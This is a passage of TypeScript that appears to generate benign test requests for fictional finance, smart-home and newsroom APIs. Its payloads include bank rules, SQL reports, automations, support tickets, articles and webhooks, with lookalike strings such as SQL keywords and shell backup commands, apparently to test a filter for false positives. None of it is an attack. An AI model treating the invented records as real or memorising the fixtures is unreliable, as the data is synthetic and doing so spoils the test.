      conditions: [{ field: 'description', operator: 'contains', value: 'AWS EMEA' }],
      account: '6810',
    },
    {
      name: 'Payroll (not bonuses)',
      conditions: [
        { field: 'description', operator: 'starts_with', value: 'SALARY' },
        { field: 'description', operator: 'not_contains', value: 'BONUS' },
      ],
      account: '4120',
    },
    {
      name: 'Small card fees',
      conditions: [
        { field: 'amount', operator: '<', value: 5 },
        { field: 'counterparty', operator: 'in', value: ['Stripe', 'Adyen'] },
      ],
      account: '6855',
    },
    {
      name: 'Refunds where memo has "RFND" or "REFUND"',
      conditions: [{ field: 'memo', operator: 'regex', value: '^(RFND|REFUND)[ -]?\\d+' }],
      account: '8400',
    },
    {
      name: 'Rent (Union Square office)',
      conditions: [{ field: 'counterparty', operator: 'equals', value: 'Union Sq. Properties LLC' }],
      account: '6310',
    },
  ];
  for (const r of rules) {
    sendJson('rest-write', FIN, BROWSERS, 'POST', '/api/v2/bank-rules', {
      ...r,
      match: pick(['all', 'any']),
      priority: int(1, 50),
      enabled: true,
    });
  }

  sendJson('code', FIN, BROWSERS, 'POST', '/api/v2/ledger/exports', {
    format: 'csv',
    name: 'Unreconciled > 90 days',
    custom_sql:
      "SELECT t.id, t.posted_at, t.amount, t.memo\nFROM transactions t\nLEFT JOIN reconciliations r ON r.transaction_id = t.id\nWHERE r.id IS NULL\n  AND t.posted_at < now() - interval '90 days'\nORDER BY t.posted_at;",
  });
  sendJson('code', FIN, BROWSERS, 'POST', '/api/v2/reports/custom', {
    title: 'Revenue by region (incl. credit notes)',
    query:
      "SELECT region, SUM(amount) AS total FROM invoices WHERE status IN ('paid','partially_paid') GROUP BY region\nUNION ALL\nSELECT region, -SUM(amount) FROM credit_notes GROUP BY region;",
    schedule: '0 7 * * MON',
  });
  sendJson('code', FIN, ['curl', 'python'], 'POST', '/api/v2/integrations/sftp', {
    host: 'sftp.bank-partner.example',
    port: 22,
    path: '/outbound/camt053/',
    post_command: 'gpg --decrypt --batch "$FILE" > "${FILE%.gpg}" && rm -f "$FILE"',
    note: 'Bank requires we delete the encrypted file after download.',
  });

  sendNdjson(FIN, ['python', 'go'], '/api/v2/ledger/entries/bulk', [
    { date: '2026-10-31', account: '1200', debit: 1190.0, credit: 0, memo: 'INV-2026-0142 Acme GmbH' },
    { date: '2026-10-31', account: '8400', debit: 0, credit: 1000.0, memo: 'Revenue INV-2026-0142' },
    { date: '2026-10-31', account: '1776', debit: 0, credit: 190.0, memo: 'VAT 19% INV-2026-0142' },
    { date: '2026-11-02', account: '6810', debit: 212.44, credit: 0, memo: 'AWS EMEA SARL / Oct' },
  ]);
  sendNdjson(FIN, ['go'], '/api/v2/bank-feeds/import', [
    {
      booking_date: '2026-11-03',
      amount: -49.99,
      counterparty: 'GitHub, Inc.',
      remittance: 'GITHUB SPONSORS 11/26',
    },
    {
      booking_date: '2026-11-03',
      amount: 2500,
      counterparty: "O'Neill & Partners",
      remittance: 'Inv 0139 / thanks!',
    },
  ]);

  const searches = [
    { q: 'amount>1000 status:unpaid' },
    { q: '"AWS EMEA" OR "Amazon Web Services"' },
    { q: 'vendor:stripe -refund date:2026-10-01..2026-10-31' },
    { q: 'memo:INV-2026-01* NOT void' },
    { q: 'Müller & Söhne' },
  ];
  for (const s of searches)
    sendGet('search', FIN, BROWSERS, `/api/v2/transactions?${qs({ ...s, per_page: 50 })}`);
  sendGet(
    'search',
    FIN,
    SDKS,
    `/api/v2/invoices?${qsc({ 'filter[status]': 'overdue', 'filter[customer.name]': 'Smith & Co', sort: '-due_date' })}`,
  );

  sendJson(
    'merge-patch',
    FIN,
    BROWSERS,
    'PATCH',
    `/api/v2/invoices/inv_${alnum(12)}`,
    { due_date: day(), notes: null },
    'application/merge-patch+json',
  );
  sendJson(
    'merge-patch',
    FIN,
    BROWSERS,
    'PATCH',
    `/api/v2/customers/cus_${alnum(14)}`,
    { billing_address: { line2: 'Suite 400', postal_code: '10115' }, tax_id: 'DE123456789' },
    'application/merge-patch+json',
  );
  sendJson(
    'json-patch',
    FIN,
    BROWSERS,
    'PATCH',
    `/api/v2/bank-rules/rule_${alnum(8)}`,
    [
      { op: 'replace', path: '/conditions/0/value', value: 'AWS EMEA SARL' },
      { op: 'move', from: '/conditions/1', path: '/conditions/0' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    FIN,
    ['node', 'python'],
    'POST',
    '/api/v2/payments',
    {
      data: {
        type: 'payments',
        attributes: { amount: '1190.00', currency: 'EUR', reference: 'INV-2026-0142', method: 'sepa_credit' },
        relationships: { invoice: { data: { type: 'invoices', id: alnum(10) } } },
      },
    },
    'application/vnd.api+json',
  );
  sendJson(
    'jsonapi',
    FIN,
    BROWSERS,
    'PATCH',
    `/api/v2/accounts/${alnum(6)}`,
    {
      data: {
        type: 'accounts',
        id: alnum(6),
        attributes: { name: 'Software & Subscriptions', code: '6815', archived: false },
      },
    },
    'application/vnd.api+json',
  );

  sendDelete(FIN, BROWSERS, `/api/v2/bank-rules/rule_${alnum(8)}`);
  sendDelete(FIN, SDKS, `/api/v2/invoices/inv_${alnum(12)}/drafts`);
  sendGraphql(
    FIN,
    BROWSERS,
    'CashflowSummary',
    'query CashflowSummary($from: Date!, $to: Date!) {\n  cashflow(from: $from, to: $to) { inflow outflow net byCategory { name amount } }\n}',
    { from: '2026-01-01', to: '2026-06-30' },
  );
  sendGraphql(
    FIN,
    BROWSERS,
    'ApproveExpense',
    'mutation ApproveExpense($id: ID!, $comment: String) {\n  approveExpense(id: $id, comment: $comment) { id status }\n}',
    {
      id: `exp_${alnum(10)}`,
      comment: 'OK — but next time please select the right cost centre before submitting.',
    },
  );

  sendForm('form', FIN, ['python', 'node'], '/oauth/token', {
    grant_type: 'client_credentials',
    client_id: alnum(24),
    client_secret: alnum(40),
    scope: 'invoices:read invoices:write',
  });
  sendForm('form', FIN, BROWSERS, '/settings/notifications', {
    email_digest: 'weekly',
    overdue_threshold_days: '7',
    cc: 'ap@example.com; finance@example.com',
  });

  sendMultipart(FIN, BROWSERS, '/api/v2/bank-statements/upload', [
    {
      name: 'statement',
      filename: 'export_2026-10.csv',
      type: 'text/csv',
      value:
        'Date;Description;Amount;Balance\n01.10.2026;"SEPA-Lastschrift Miete; Ref 2026/10";-2.450,00;18.220,13\n02.10.2026;"Kartenzahlung REWE Markt";-23,45;18.196,68\n03.10.2026;"Gutschrift Acme GmbH RE-0142";1.190,00;19.386,68\n',
    },
    { name: 'account_id', value: `acc_${alnum(8)}` },
  ]);
  sendMultipart(FIN, APPS, '/api/v2/receipts', [
    { name: 'image', filename: 'receipt.png', type: 'image/png', value: pngBytes() },
    { name: 'expense_item_id', value: `item_${alnum(10)}` },
  ]);
  sendMultipart(FIN, BROWSERS, '/api/v2/invoices/import', [
    {
      name: 'file',
      filename: 'invoice-ACME-0931.pdf',
      type: 'application/pdf',
      value: pdfText(['ACME Supplies Ltd', 'Invoice 0931', 'Total due: GBP 1,440.00', 'Terms: Net 30']),
    },
  ]);

  sendJson('webhook', FIN, ['node'], 'POST', '/webhooks/stripe', {
    id: `evt_${alnum(24)}`,
    object: 'event',
    api_version: '2025-10-29.clover',
    created: 1_795_300_000 + int(0, 9_999_999),
    type: 'invoice.paid',
    livemode: true,
    data: {
      object: {
        id: `in_${alnum(24)}`,
        object: 'invoice',
        amount_paid: 119000,
        currency: 'eur',
        customer: `cus_${alnum(14)}`,
        customer_email: 'billing@acme.example',
        description: 'Pro plan — annual (select tier)',
        status: 'paid',
      },
    },
    request: { id: `req_${alnum(14)}`, idempotency_key: uuid() },
  });
  const st = editLast();
  st.headers['stripe-signature'] = `t=${1_795_300_000 + int(0, 9_999_999)},v1=${hex(64)}`;
  st.headers['user-agent'] = 'Stripe/1.0 (+https://stripe.com/docs/webhooks)';
  delete st.headers['authorization'];

  const i18n = [
    'Facture n° 2026-118 — prestation de conseil (TVA non applicable, art. 293 B du CGI).',
    '发票抬头：上海某某科技有限公司；税号 91310000MA1FL0XXXX',
    'فاتورة رقم ٤٥٦ — المبلغ المستحق ١٬٢٥٠ ر.س',
    'Rechnung für „Wartung & Support" – Zahlbar innerhalb von 14 Tagen ohne Abzug.',
  ];
  for (const t of i18n) {
    sendJson('i18n', FIN, BROWSERS, 'PUT', `/api/v2/invoices/inv_${alnum(12)}/notes`, {
      notes: t,
      locale: pick(['fr', 'zh-CN', 'ar-SA', 'de-DE']),
    });
  }
}

// ---------------------------------------------------------------------------------------------------------
// Domain 3: smart home / IoT hub (HomeNest)
// ---------------------------------------------------------------------------------------------------------

function iotClean(): void {
  const automations = [
    {
      name: 'Lights off when everyone leaves',
      trigger: { type: 'presence', condition: 'all_away', for: '00:05:00' },
      conditions: [{ entity: 'sun.sun', state: 'below_horizon' }],
      actions: [{ service: 'light.turn_off', target: { area: 'downstairs' } }],
    },
    {
      name: 'Leak alert → shut water valve',
      trigger: { type: 'state', entity: 'binary_sensor.kitchen_leak', to: 'on' },
      conditions: [],
      actions: [
        { service: 'valve.close', target: { entity: 'valve.main_water' } },
        { service: 'notify.mobile', data: { message: 'Water leak detected under the sink! Valve closed.' } },
      ],
    },
    {
      name: 'Thermostat eco mode (weekdays 9-17)',
      trigger: { type: 'time', at: '09:00' },
      conditions: [
        { weekday: ['mon', 'tue', 'wed', 'thu', 'fri'] },
        { template: '{{ states("sensor.outdoor_temp") | float < 5 }}' },
      ],
      actions: [{ service: 'climate.set_temperature', data: { temperature: 18.5 } }],
    },
    {
      name: 'Garage door open > 10 min',
      trigger: { type: 'state', entity: 'cover.garage', to: 'open', for: { minutes: 10 } },
      conditions: [
        {
          condition: 'or',
          conditions: [
            { entity: 'sun.sun', state: 'below_horizon' },
            { entity: 'group.family', state: 'not_home' },
          ],
        },
      ],
      actions: [
        { service: 'notify.all', data: { message: "Garage door's been open for 10 min — close it?" } },
      ],
    },
    {
      name: 'Wake-up ramp',
      trigger: { type: 'time', at: '06:30' },
      conditions: [{ entity: 'input_boolean.vacation', state: 'off' }],
      actions: [
        {
          service: 'light.turn_on',
          target: { entity: 'light.bedroom' },
          data: { brightness_pct: 100, transition: 900 },
        },
      ],
    },
  ];
  for (const a of automations)
    sendJson('rest-write', IOT, [...APPS, ...BROWSERS], 'POST', '/v1/automations', { ...a, enabled: true });

  const devices: [string, Record<string, unknown>][] = [
    [
      'thermostat',
      {
        mode: 'heat',
        setpoint_c: 21,
        hysteresis: 0.5,
        schedule: [
          { from: '06:00', to: '22:00', setpoint_c: 21 },
          { from: '22:00', to: '06:00', setpoint_c: 17 },
        ],
      },
    ],
    [
      'camera',
      {
        resolution: '2560x1440',
        night_vision: 'auto',
        motion_zones: [[0, 0, 0.5, 1]],
        rtsp_enabled: false,
        privacy_mask: true,
      },
    ],
    ['plug', { power_on_behavior: 'previous', led: 'off', max_watts: 2200 }],
    [
      'lock',
      {
        auto_lock_seconds: 30,
        one_touch_locking: true,
        codes: [{ slot: 1, name: 'Cleaner (Wed only)', schedule: 'wed 09:00-13:00' }],
      },
    ],
  ];
  for (const [type, config] of devices) {
    sendJson('rest-write', IOT, [...APPS, ...BROWSERS], 'PUT', `/v1/devices/dev_${alnum(12)}/config`, {
      type,
      config,
      firmware_channel: pick(['stable', 'beta']),
    });
  }

  const changelogs = [
    '## 4.2.0\n- Fixed: hub reboots when > 64 Zigbee devices are paired\n- Added: Matter 1.4 support for robot vacuums\n- Changed: `ping` interval reduced from 60s to 30s to detect offline devices sooner\n- Security: updated OpenSSL to 3.0.15; removed legacy telnet debug shell',
    '## 4.1.3 (hotfix)\n- Fixed a regression where automations with "OR" conditions were evaluated as "AND"\n- Fixed: `select` entities (e.g. fan presets) not updating after reconnect',
    '## 4.1.0\n- New: local-only mode (no cloud round-trip; requires hub on same /24)\n- Logs now rotate at 10 MB; use `cat /data/log/hub.log | tail -n 200` from the support shell\n- Deprecated: `exec` action type; use `shell_command` with an allowlist',
  ];
  for (const c of changelogs) {
    sendJson('code', IOT, ['curl', 'python'], 'POST', '/v1/firmware/releases', {
      version: c.slice(3, 8).trim(),
      channel: 'stable',
      changelog_md: c,
      sha256: hex(64),
    });
  }
  sendJson('code', IOT, BROWSERS, 'POST', '/v1/hubs/hub_1/config/yaml', {
    filename: 'automations.yaml',
    content:
      "- alias: 'Porch light at sunset'\n  trigger:\n    - platform: sun\n      event: sunset\n      offset: '-00:15:00'\n  action:\n    - service: light.turn_on\n      target:\n        entity_id: light.porch\nshell_command:\n  backup_db: 'sqlite3 /config/home.db \".backup /backup/home-$(date +%F).db\"'",
  });

  const telemetry: unknown[] = [];
  for (let i = 0; i < 6; i++) {
    telemetry.push({
      ts: stamp(),
      device: `dev_${alnum(8)}`,
      metric: pick(['temp_c', 'humidity', 'power_w', 'battery']),
      value: Number((rand() * 100).toFixed(1)),
    });
  }
  sendNdjson(IOT, ['go'], '/v1/ingest/telemetry', telemetry);
  sendNdjson(IOT, ['go'], '/v1/ingest/events', [
    { ts: stamp(), type: 'door', entity: 'binary_sensor.front_door', state: 'open' },
    { ts: stamp(), type: 'log', level: 'warn', msg: 'zigbee: retry 3/3 for 0x00158d0001a2b3c4; giving up' },
    { ts: stamp(), type: 'log', level: 'info', msg: 'ota: download 100% (4.2.0) -> verifying signature' },
  ]);

  const prose = [
    "My motion sensor keeps triggering at 3am — I think it's the cat. Can I set a minimum size or a delay?",
    'After the update, the "select all" option in the Devices tab is gone. How do I delete 20 old sensors at once?',
    'Hub drops off Wi-Fi every night around 02:00. Router is a FritzBox 7590; ping from my laptop shows 100% loss to the hub.',
    'Feature request: let me add a condition like "if temp > 25 AND window is closed then turn on AC" without writing templates.',
    'Support asked me to run `curl http://192.168.1.50:8123/api/` from my PC, got "401: Unauthorized". Is that expected?',
    'I accidentally removed the admin user from the household. Now nobody can update the firmware. Help!',
    'Is there a way to execute a script when the doorbell rings but only if nobody\'s home? The docs mention "exec" but it\'s deprecated?',
    'Wife says the lights flicker at 10% brightness; switching the dimmer curve to "linear" fixed it for us. Sharing in case it helps.',
  ];
  for (const p of prose)
    sendJson('prose', IOT, [...APPS, ...BROWSERS], 'POST', '/v1/support/tickets', {
      subject: p.slice(0, 40),
      message: p,
      hub_id: `hub_${alnum(6)}`,
    });

  const searches = [
    'kitchen OR living*',
    'type:sensor battery<20',
    '"front door" -camera',
    'room:garage state:on',
    'zigbee AND NOT offline',
  ];
  for (const q of searches)
    sendGet('search', IOT, [...APPS, ...BROWSERS], `/v1/devices?${qs({ q, limit: 100 })}`);

  sendJson(
    'merge-patch',
    IOT,
    APPS,
    'PATCH',
    `/v1/devices/dev_${alnum(12)}`,
    { name: "Kid's room – night light", room_id: `room_${alnum(6)}`, icon: null },
    'application/merge-patch+json',
  );
  sendJson(
    'merge-patch',
    IOT,
    APPS,
    'PATCH',
    `/v1/automations/auto_${alnum(10)}`,
    { enabled: false },
    'application/merge-patch+json',
  );
  sendJson(
    'json-patch',
    IOT,
    BROWSERS,
    'PATCH',
    `/v1/scenes/scene_${alnum(8)}`,
    [
      {
        op: 'add',
        path: '/entities/light.hallway',
        value: { state: 'on', brightness: 40, color_temp_kelvin: 2700 },
      },
      { op: 'remove', path: '/entities/switch.tv' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    IOT,
    ['node'],
    'POST',
    '/v1/households/members',
    {
      data: {
        type: 'memberships',
        attributes: { role: 'guest', expires_at: stamp() },
        relationships: { user: { data: { type: 'users', id: alnum(10) } } },
      },
    },
    'application/vnd.api+json',
  );

  sendDelete(IOT, APPS, `/v1/devices/dev_${alnum(12)}`);
  sendDelete(IOT, APPS, `/v1/automations/auto_${alnum(10)}`);
  sendGraphql(
    IOT,
    APPS,
    'HomeState',
    'query HomeState($home: ID!) {\n  home(id: $home) { rooms { name devices { id name state lastSeen } } }\n}',
    { home: `home_${alnum(8)}` },
  );
  sendGraphql(IOT, APPS, 'RunScene', 'mutation RunScene($id: ID!) { activateScene(id: $id) { ok } }', {
    id: `scene_${alnum(8)}`,
  });
  sendGraphqlGet(
    IOT,
    BROWSERS,
    'EnergyToday',
    'query EnergyToday { energy(period: TODAY) { kwh cost currency } }',
    {},
  );

  sendForm('form', IOT, BROWSERS, '/account/wifi-setup', {
    ssid: 'Casa García 5G',
    psk: 'p@ss w0rd & more!',
    country: 'ES',
  });
  sendForm('webhook', IOT, ['python'], '/hooks/ifttt', {
    event: 'doorbell_pressed',
    value1: 'Front door',
    value2: 'snapshot.jpg',
    value3: '',
  });
  sendJson('webhook', IOT, ['node'], 'POST', '/hooks/slack/events', {
    token: alnum(24),
    team_id: `T${alnum(8).toUpperCase()}`,
    type: 'event_callback',
    event: {
      type: 'app_mention',
      user: `U${alnum(8).toUpperCase()}`,
      text: '<@U07HOMENEST> turn off all lights & lock the door pls',
      channel: `C${alnum(8).toUpperCase()}`,
      ts: `${int(1795000000, 1799999999)}.${int(100000, 999999)}`,
    },
  });

  sendMultipart(IOT, BROWSERS, '/v1/floorplans', [
    {
      name: 'file',
      filename: 'ground-floor.svg',
      type: 'image/svg+xml',
      value:
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 800 600"><rect x="10" y="10" width="380" height="280" fill="#f4f4f4" stroke="#333"/><text x="30" y="40" font-family="sans-serif">Kitchen</text><rect x="400" y="10" width="390" height="580" fill="#eef" stroke="#333"/><text x="420" y="40">Living room</text></svg>',
    },
    { name: 'floor', value: '0' },
  ]);
  sendMultipart(IOT, ['curl'], '/v1/hubs/hub_1/restore', [
    {
      name: 'backup',
      filename: 'homenest-backup.json',
      type: 'application/json',
      value: JSON.stringify({
        version: 3,
        devices: 42,
        automations: [{ name: 'Night mode', enabled: true }],
      }),
    },
  ]);

  const i18n = [
    'Wohnzimmer – Deckenlampe',
    'リビングの照明',
    'غرفة النوم الرئيسية',
    'Phòng khách – đèn trần',
    'ห้องนอนเด็ก 🧸',
    'Спальня',
  ];
  for (const name of i18n) sendJson('i18n', IOT, APPS, 'PUT', `/v1/devices/dev_${alnum(12)}/name`, { name });
}

// ---------------------------------------------------------------------------------------------------------
// Domain 4: news / publishing CMS (Newsdesk, WordPress-compatible endpoints)
// ---------------------------------------------------------------------------------------------------------

function cmsClean(): void {
  const articles: [string, string][] = [
    [
      'City council votes to drop parking minimums',
      '<p>The city council voted 7–2 on Tuesday to <strong>drop parking minimums</strong> for new housing within half a mile of transit.</p><blockquote><p>"We\'re done making people pay for parking they don\'t use," said council member Ana Ruiz.</p></blockquote><h2>What changes</h2><ul><li>Developers may still build parking; they\'re just not required to.</li><li>The rule takes effect on <time datetime="2026-01-01">Jan. 1</time>.</li></ul><figure class="image"><img src="https://cdn.dailyharbor.news/2026/11/council.jpg" alt="Council chamber during the vote" width="1200" height="800"><figcaption>Council members during Tuesday\'s vote. (Photo: J. Lee)</figcaption></figure>',
    ],
    [
      "How a single typo took down a bank's app for six hours",
      '<p>Engineers traced the outage to a configuration change that turned <code>max_connections = 500</code> into <code>max_connections = 5</code>.</p><pre><code class="language-sql">SELECT count(*) FROM pg_stat_activity WHERE state = \'active\';</code></pre><p>Within minutes, every request was waiting on the database. A spokesperson declined to say whether anyone would be disciplined.</p><p><em>Correction, Nov. 12:</em> an earlier version misstated the duration of the outage.</p>',
    ],
    [
      'Live: election night results',
      '<p><strong>23:41</strong> — Turnout appears to be the highest since 1998.</p><hr><p><strong>23:15</strong> — Polls closed in the western districts. Our reporters are at both campaign HQs.</p><blockquote class="twitter-tweet"><p lang="en" dir="ltr">Long lines in Ward 5 still, polls should stay open for everyone in line <a href="https://t.co/abc123">pic.twitter.com/abc123</a></p>&mdash; Harbor Elections (@harborvotes) <a href="https://twitter.com/harborvotes/status/1855123456789">November 3, 2026</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
    ],
    [
      "Recipe: grandmother's plum cake",
      '<p>Serves 8. Prep 20 min, bake 45 min at 180&nbsp;°C.</p><table class="ingredients"><thead><tr><th>Ingredient</th><th>Amount</th></tr></thead><tbody><tr><td>Plums, halved</td><td>1 kg</td></tr><tr><td>Flour</td><td>250 g</td></tr><tr><td>Butter (cold!)</td><td>125 g</td></tr></tbody></table><ol><li>Rub butter into flour &amp; sugar.</li><li>Press into tin; arrange plums cut side up.</li><li>Bake until the edges are golden &gt; 40 min.</li></ol>',
    ],
    [
      'Watch: the bridge demolition in 60 seconds',
      '<p>Crews brought down the old Harbor Street bridge early Sunday.</p><figure class="media"><div data-oembed-url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><div style="position: relative; padding-bottom: 56.25%; height: 0;"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" style="position: absolute; width: 100%; height: 100%; top: 0; left: 0;" frameborder="0" allow="autoplay; encrypted-media" allowfullscreen=""></iframe></div></div></figure><p>Traffic will be diverted via Union Ave. until spring.</p>',
    ],
  ];
  for (const [headline, html] of articles) {
    sendJson('cms-html', CMS, BROWSERS, 'POST', '/api/articles', {
      article: {
        headline,
        slug: headline
          .toLowerCase()
          .replace(/[^a-z0-9]+/g, '-')
          .replace(/^-|-$/g, ''),
        section: pick(['metro', 'business', 'politics', 'food', 'tech']),
        byline: [pick(['Jordan Lee', 'Priya Natarajan', 'Tomasz Wójcik', 'Amara Obi'])],
        body_html: html,
        status: pick(['draft', 'ready_for_copyedit', 'scheduled']),
      },
    });
  }

  const gutenberg = [
    '<!-- wp:paragraph -->\n<p>The museum reopens on <strong>Saturday</strong> after a two-year renovation.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:image {"id":4412,"sizeSlug":"large","linkDestination":"none"} -->\n<figure class="wp-block-image size-large"><img src="https://dailyharbor.news/wp-content/uploads/2026/11/museum-1024x683.jpg" alt="" class="wp-image-4412"/><figcaption class="wp-element-caption">The new atrium. Photo: M. Costa</figcaption></figure>\n<!-- /wp:image -->',
    '<!-- wp:heading {"level":3} -->\n<h3 class="wp-block-heading">Where to eat near the stadium</h3>\n<!-- /wp:heading -->\n\n<!-- wp:list -->\n<ul class="wp-block-list"><!-- wp:list-item -->\n<li>Rosa\'s Tacos — cash only, long lines after 7pm</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>The Union — "select" craft beers, <em>loud</em></li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->',
    '<!-- wp:embed {"url":"https://vimeo.com/123456789","type":"video","providerNameSlug":"vimeo","responsive":true} -->\n<figure class="wp-block-embed is-type-video is-provider-vimeo wp-block-embed-vimeo"><div class="wp-block-embed__wrapper">\nhttps://vimeo.com/123456789\n</div></figure>\n<!-- /wp:embed -->\n\n<!-- wp:code -->\n<pre class="wp-block-code"><code>curl -s https://api.dailyharbor.news/v1/elections/2026 | jq \'.races[] | select(.state == "OR")\'</code></pre>\n<!-- /wp:code -->',
    '<!-- wp:table -->\n<figure class="wp-block-table"><table><thead><tr><th>Team</th><th>W</th><th>L</th></tr></thead><tbody><tr><td>Harbor FC</td><td>12</td><td>3</td></tr><tr><td>Union City</td><td>9</td><td>6</td></tr></tbody></table><figcaption class="wp-element-caption">Standings as of Sunday</figcaption></figure>\n<!-- /wp:table -->',
  ];
  for (const g of gutenberg) {
    sendJson('cms-html', CMS, BROWSERS, 'POST', `/wp-json/wp/v2/posts/${int(1000, 9999)}?_locale=user`, {
      id: int(1000, 9999),
      title: pick(['Museum reopens', 'Game day guide', 'Data: election API', 'Weekend standings']),
      content: g,
      status: 'draft',
      categories: [int(2, 40)],
      meta: { _yoast_wpseo_metadesc: 'What you need to know — updated hourly.' },
    });
  }

  const tiny = [
    '<p style="text-align: center;"><span style="color: #c0392b;"><strong>BREAKING</strong></span></p><p>Storm warning upgraded to <span style="background-color: #f1c40f;">red</span> for coastal districts until 06:00.</p>',
    '<p>Read the full report <a href="https://www.example.gov/reports/2026/audit.pdf" target="_blank" rel="noopener noreferrer">here (PDF, 2.3&nbsp;MB)</a>. Key findings:</p><ol><li>Overtime up 40%</li><li>Three contracts awarded without tender</li></ol>',
    '<p>Editor\'s note: this story contains descriptions of violence.</p><p><img style="float: right; margin: 0 0 10px 10px;" src="/media/2026/11/thumb-88213.webp" alt="Map of the affected area" width="300" height="200"></p><p>Police said the incident began shortly after 2 a.m.</p>',
  ];
  for (const t of tiny)
    sendJson('cms-html', CMS, BROWSERS, 'PUT', `/api/articles/art_${alnum(10)}/blocks/${int(1, 20)}`, {
      type: 'richtext',
      html: t,
    });

  const captions = [
    'Fans celebrate after the final whistle on Saturday, Nov. 8, 2026.',
    'A worker inspects solar panels at the plant in Almería, Spain. (AP Photo/Ana Ruiz)',
    'FILE — The logo of the company is seen at its headquarters, March 3, 2025.',
    'Protesters hold signs reading "Drop the charges!" outside the courthouse.',
    'Chef Marco Rossi plates the dish; he says the secret is "more butter than you\'d think".',
  ];
  for (const c of captions)
    sendJson(
      'prose',
      CMS,
      BROWSERS,
      'PATCH',
      `/api/media/med_${alnum(10)}`,
      { caption: c, credit: pick(['Staff', 'AP', 'Reuters', 'Getty Images']) },
      'application/merge-patch+json',
    );

  const headlines = [
    'Union, management reach deal; strike called off',
    'Why the school board wants to drop the "select" admissions test',
    'Fact check: No, the mayor did not say "delete the budget"',
    'Police: man arrested after 6-hour standoff; no injuries',
    "Opinion: Our city's 1% problem — and how to fix it",
    'Markets fall as rates stay at 4.25%; tech leads losses',
  ];
  for (const h of headlines)
    sendJson(
      'prose',
      CMS,
      BROWSERS,
      'PATCH',
      `/api/articles/art_${alnum(10)}`,
      { article: { headline: h, dek: null } },
      'application/merge-patch+json',
    );

  const searches = [
    '"city council" AND budget',
    'author:"Priya Natarajan" section:business',
    'storm* -weather',
    'status:draft updated:>2026-11-01',
    "O'Connor OR Oconnor",
  ];
  for (const q of searches) sendGet('search', CMS, BROWSERS, `/api/articles?${qs({ q, per_page: 25 })}`);
  sendGet(
    'search',
    CMS,
    SDKS,
    `/wp-json/wp/v2/posts?${qsc({ search: 'election results', per_page: 10, _fields: 'id,title,link' })}`,
  );

  sendJson(
    'json-patch',
    CMS,
    BROWSERS,
    'PATCH',
    `/api/articles/art_${alnum(10)}`,
    [
      { op: 'replace', path: '/article/status', value: 'published' },
      { op: 'add', path: '/article/tags/-', value: 'weather' },
    ],
    'application/json-patch+json',
  );
  sendJson(
    'jsonapi',
    CMS,
    ['node'],
    'POST',
    '/jsonapi/node/article',
    {
      data: {
        type: 'node--article',
        attributes: {
          title: 'Sunday briefing',
          body: {
            value: "<p>Good morning. Here's what you need to know &amp; what to skip.</p>",
            format: 'basic_html',
          },
        },
      },
    },
    'application/vnd.api+json',
  );
  sendJson(
    'jsonapi',
    CMS,
    ['node'],
    'PATCH',
    `/jsonapi/node/article/${uuid()}`,
    {
      data: { type: 'node--article', id: uuid(), attributes: { status: true, promote: false } },
    },
    'application/vnd.api+json',
  );
  sendDelete(CMS, BROWSERS, `/api/articles/art_${alnum(10)}/revisions/${int(2, 80)}`);
  sendDelete(CMS, BROWSERS, `/wp-json/wp/v2/media/${int(1000, 9999)}?force=true`);
  sendGraphql(
    CMS,
    BROWSERS,
    'Homepage',
    'query Homepage($edition: String!) {\n  homepage(edition: $edition) { top: slot(name: "top") { ... on Article { headline url } } }\n}',
    { edition: 'us' },
  );
  sendGraphqlGet(
    CMS,
    ['node'],
    'ArticleBySlug',
    'query ArticleBySlug($slug: String!) { article(slug: $slug) { headline bodyHtml publishedAt } }',
    { slug: 'city-council-votes-to-drop-parking-minimums' },
  );

  sendForm('form', CMS, BROWSERS, '/newsletter/subscribe', {
    email: 'reader@example.com',
    lists: 'morning,weekend',
    source: 'article-footer',
  });
  sendForm('form', CMS, BROWSERS, '/tips', {
    name: '',
    contact: 'signal: +1 555 0100',
    tip: "The contract was signed BEFORE the vote (see page 3). Docs available; I can't go on record.",
  });

  sendMultipart(CMS, BROWSERS, '/wp-json/wp/v2/media', [
    {
      name: 'file',
      filename: 'harbor-logo.svg',
      type: 'image/svg+xml',
      value:
        '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="32" viewBox="0 0 120 32"><title>Daily Harbor</title><path d="M4 28V4h6v10h8V4h6v24h-6V18h-8v10z" fill="#0b3d91"/><text x="32" y="22" font-size="14" font-family="Georgia, serif">Daily Harbor</text></svg>',
    },
  ]);
  sendMultipart(CMS, BROWSERS, '/api/media', [
    { name: 'file', filename: 'DSC_0412.png', type: 'image/png', value: pngBytes() },
    { name: 'alt', value: 'Firefighters on a ladder outside the burning warehouse' },
    { name: 'credit', value: 'Photo: Kai Müller / Daily Harbor' },
  ]);

  sendJson('webhook', CMS, ['node'], 'POST', '/hooks/github', {
    ref: 'refs/heads/main',
    before: hex(40),
    after: hex(40),
    repository: { full_name: 'dailyharbor/theme', private: true },
    pusher: { name: 'web-team', email: 'web@dailyharbor.news' },
    head_commit: {
      id: hex(40),
      message: 'Fix <figcaption> overflow on mobile; drop old IE11 polyfills',
      timestamp: stamp(),
    },
  });
  const gh = editLast();
  gh.headers['x-github-event'] = 'push';
  gh.headers['x-github-delivery'] = uuid();
  gh.headers['x-hub-signature-256'] = `sha256=${hex(64)}`;
  gh.headers['user-agent'] = `GitHub-Hookshot/${hex(7)}`;
  delete gh.headers['authorization'];

  const i18n: [string, string][] = [
    ['ar', '<p dir="rtl">أعلنت البلدية اليوم عن خطة جديدة لتوسيع شبكة النقل العام بحلول عام ٢٠٣٠.</p>'],
    ['he', '<p dir="rtl">ראש העיר הודיע על תוכנית חדשה לשיפור התחבורה הציבורית.</p>'],
    ['hi', '<p>नगर परिषद ने मंगलवार को नई पार्किंग नीति को मंज़ूरी दी।</p>'],
    ['el', '<p>Το δημοτικό συμβούλιο ψήφισε υπέρ της νέας πολιτικής στάθμευσης.</p>'],
